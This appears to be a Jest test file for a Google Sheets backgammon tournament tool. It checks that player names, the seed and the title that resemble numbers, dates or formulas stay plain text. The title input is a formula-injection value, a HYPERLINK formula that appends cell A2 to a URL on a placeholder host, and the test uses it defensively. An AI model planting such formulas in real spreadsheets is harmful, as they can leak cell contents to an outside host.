/**
 * Text stays text: a whole small swing tournament whose players are named
 * like numbers, dates, booleans, signs and apostrophes, and whose title is a formula. Sheets reads every string
 * written with setValue(s) as if typed, so every name, title, seed and note goes through asText/writtenString;
 * the replay reads the names back from the log sheet, so a name read back differently would break the event.
 */
import { installFakeGas } from '../../../../test/helpers/fakeGas';
import type { FakeGas } from '../../../../dev/fake/gas';
import { createSwing, getSwingStatus, recordSwingResult, resyncSwing, setSwingPlayerStatus, undoSwingResult } from './endpoints';
import { HEADER_ROW, LOG_FIRST_ROW, NOW_ROW, START_ROW, STATE_ROW, STATUS_VALUE_COL } from '../sheets/layout';

const T0 = Date.parse('2026-05-02T09:00:00.000Z');
const at = (min: number) => new Date(T0 + min * 60_000).toISOString();
/** As the log stores a time: UTC, whole seconds. */
const logged = (min: number) => at(min).replace('.000Z', 'Z');

/** Names Sheets would read as a boolean, numbers, a percentage, dates, a time, signed numbers, or apostrophe text. */
const NAMES = ['TRUE', '1850', '007', '0042', '50%', '3/4/2024', 'Mar 5', '12:30', '+1', '-2', "'Tis", "O'Neil"];
const TITLE = '=HYPERLINK("http://x"&A2,"x")';
const LOG = `${TITLE} log`;
const ERROR = /^#(ERROR!|VALUE!|NAME\?|REF!|N\/A|DIV\/0!|NUM!)/;

let gas: FakeGas;
beforeEach(() => {
  gas = installFakeGas();
  jest.useFakeTimers({ now: T0 + 10 * 60 * 60_000, doNotFake: ['nextTick', 'setImmediate', 'queueMicrotask'] });
});
afterEach(() => jest.useRealTimers());

const sheet = (name: string) => gas.book.sheet(name);
/** One row of values and of display values, read back from the sheet. */
const both = (name: string, a1: string) => [sheet(name).getRange(a1).getValues()[0], sheet(name).getRange(a1).getDisplayValues()[0]];
const lastPlayerCol = (n: number) => String.fromCharCode('J'.charCodeAt(0) + n);

/** No cell of the sheet shows a formula error. */
function errorCells(name: string): string[] {
  return sheet(name)
    .getDataRange()
    .getDisplayValues()
    .flatMap((row, r) => row.flatMap((v, c) => (ERROR.test(v) ? [`R${r + 1}C${c + 1}: ${v}`] : [])));
}

function create(): ReturnType<typeof createSwing> {
  return gas.execute(() => createSwing({ title: TITLE, players: NAMES, seed: '0042', anteMinutes: 0 }));
}

describe('swing: names, title and seed that look like values read back exactly', () => {
  it('createSwing writes them as text on the main sheet and the log sheet', () => {
    const out = create();
    expect(out.sheet).toBe(TITLE);
    expect(out.assignments).toEqual([
      ['TRUE', '1850'],
      ['007', '0042'],
      ['50%', '3/4/2024'],
      ['Mar 5', '12:30'],
      ['+1', '-2'],
      ["'Tis", "O'Neil"],
    ]);
    expect(gas.book.sheets.map((s) => s.name)).toEqual(['Sheet1', TITLE, LOG]);
    const last = lastPlayerCol(NAMES.length);
    for (const row of both(TITLE, 'A1')) expect(row).toEqual([TITLE]);
    for (const row of both(TITLE, 'D7:D7')) expect(row).toEqual(['0042']); // the seed
    for (const row of both(TITLE, 'D8:D8')) expect(row).toEqual([LOG]); // the log sheet's name
    for (const row of both(TITLE, `K${HEADER_ROW}:${last}${HEADER_ROW}`)) expect(row).toEqual(NAMES);
    for (const row of both(TITLE, `K${STATE_ROW}:P${STATE_ROW}`)) expect(row).toEqual(['match A', 'match A', 'match B', 'match B', 'match C', 'match C']);
    expect(sheet(TITLE).valueAt(5, STATUS_VALUE_COL)).toBe("A: TRUE – 1850, B: 007 – 0042, C: 50% – 3/4/2024, D: Mar 5 – 12:30, E: +1 – -2, F: 'Tis – O'Neil");
    for (const row of both(LOG, 'A1')) expect(row).toEqual([`Swing log: ${TITLE}`]);
    for (const row of both(LOG, 'B8')) expect(row).toEqual(['0042']);
    for (const row of both(LOG, `B10:M10`)) expect(row).toEqual(NAMES);
    expect(errorCells(TITLE)).toEqual([]);
    expect(errorCells(LOG)).toEqual([]);
  });

  it('a whole tournament: results, leaving, undo and re-sync replay the names read back from the log', () => {
    create();
    // Any spelling of a name is the player (docs/rules.md §0.1): "true" is TRUE, " o'neil " is O'Neil.
    let s = gas.execute(() => recordSwingResult({ sheet: TITLE, winner: 'true', loser: '1850', cube: 2, time: at(1) }));
    expect(s.chips).toMatchObject({ TRUE: 14, '1850': 10 });
    s = gas.execute(() => recordSwingResult({ sheet: TITLE, winner: " o'neil ", loser: "'Tis", time: at(2) }));
    s = gas.execute(() => recordSwingResult({ sheet: TITLE, winner: '0042', loser: '007', cube: 4, kind: 'gammon', time: at(3) }));
    s = gas.execute(() => recordSwingResult({ sheet: TITLE, winner: '12:30', loser: 'Mar 5', time: at(4) }));
    expect(Object.keys(s.chips).sort()).toEqual([...NAMES].sort());
    expect(s.chips).toMatchObject({ TRUE: 14, '1850': 10, '0042': 20, '007': 4, "O'Neil": 13, "'Tis": 11, '12:30': 13, 'Mar 5': 11 });

    const logRows = sheet(LOG).getRange(`A${LOG_FIRST_ROW}:G${LOG_FIRST_ROW + 3}`);
    const expectedLog = [
      ['result', logged(1), 'TRUE', '1850', 2, 'single', 'A'],
      ['result', logged(2), "O'Neil", "'Tis", 1, 'single', 'F'],
      ['result', logged(3), '0042', '007', 4, 'gammon', 'B'],
      ['result', logged(4), '12:30', 'Mar 5', 1, 'single', 'D'],
    ];
    expect(logRows.getValues()).toEqual(expectedLog);
    expect(logRows.getDisplayValues()).toEqual(expectedLog.map((r) => r.map(String)));
    for (const row of both(TITLE, `C${START_ROW + 1}:D${START_ROW + 1}`)) expect(row).toEqual(['TRUE', '1850']);
    for (const row of both(TITLE, `C${START_ROW + 2}:D${START_ROW + 2}`)) expect(row).toEqual(["O'Neil", "'Tis"]);

    // -2 leaves: forfeits to +1 at once (a grid row naming both), then is back; the leaving mark is undone.
    const left = gas.execute(() => setSwingPlayerStatus({ sheet: TITLE, player: '-2', leaving: true, time: at(5) }));
    expect(left.leaving).toEqual(['-2']);
    for (const row of both(TITLE, `C${START_ROW + 5}:F${START_ROW + 5}`)) expect(row.map(String)).toEqual(['+1', '-2', '1', 'forfeit']);
    expect(
      sheet(LOG)
        .getRange(`A${LOG_FIRST_ROW + 4}:C${LOG_FIRST_ROW + 4}`)
        .getValues()[0],
    ).toEqual(['leaving', logged(5), '-2']);
    const undone = gas.execute(() => undoSwingResult({ sheet: TITLE, confirmed: true }));
    expect(undone.undone).toBe('-2 marked as leaving (09:05)');
    expect(undone.leaving).toEqual([]);

    // A TD overwrites a name cell and a grid cell by hand: re-sync writes them back as the same text.
    sheet(TITLE).getRange(`K${HEADER_ROW}`).setValue('junk');
    sheet(TITLE)
      .getRange(`C${START_ROW + 1}`)
      .setValue('junk');
    const synced = gas.execute(() => resyncSwing({ sheet: TITLE }));
    expect(synced.results).toBe(4);
    for (const row of both(TITLE, `K${HEADER_ROW}:${lastPlayerCol(NAMES.length)}${HEADER_ROW}`)) expect(row).toEqual(NAMES);
    for (const row of both(TITLE, `C${START_ROW + 1}:D${START_ROW + 1}`)) expect(row).toEqual(['TRUE', '1850']);
    for (const row of both(TITLE, `K${NOW_ROW}:L${NOW_ROW}`)) expect(row.map(String)).toEqual(['14', '10']);

    const status = gas.execute(() => getSwingStatus({ sheet: TITLE }));
    expect(status.players).toEqual(NAMES);
    expect(status.posted).toBe(4);
    expect(status.matches.flatMap((m) => m.players).sort()).toEqual(expect.arrayContaining(['+1', '-2', '50%', '3/4/2024']));
    expect(errorCells(TITLE)).toEqual([]);
    expect(errorCells(LOG)).toEqual([]);
  });

  it('a second event with the same formula-like title gets its own names', () => {
    create();
    const again = create();
    expect(again.sheet).toBe(`${TITLE} (2)`);
    expect(gas.book.sheets.map((s) => s.name)).toEqual(['Sheet1', TITLE, LOG, `${TITLE} (2)`, `${LOG} (2)`]);
    expect(sheet(`${TITLE} (2)`).getRange('A1').getValues()).toEqual([[TITLE]]);
  });
});
